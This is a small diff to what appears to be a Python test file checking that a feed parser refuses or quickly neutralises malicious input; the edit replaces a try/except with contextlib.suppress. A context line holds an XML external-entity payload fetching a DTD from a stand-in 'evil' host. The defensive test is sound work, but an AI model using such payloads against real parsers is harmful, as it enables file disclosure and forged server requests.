@@ -1,6 +1,7 @@
 """What somebody with bad intentions could put into a feed: refused, or made harmless, in little time."""
 
 import time
+from contextlib import suppress
 
 import pytest
 
@@ -26,10 +27,8 @@ PARAMETER = """<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dt
 def seconds_of(body: bytes) -> float:
     """CPU time, so that busy machines do not fail the test."""
     started = time.process_time()
-    try:
+    with suppress(MalformedPayloadError):
         read_document(body, "", "https://blog.lumora.example/feed")
-    except MalformedPayloadError:
-        pass
     return time.process_time() - started
 
 
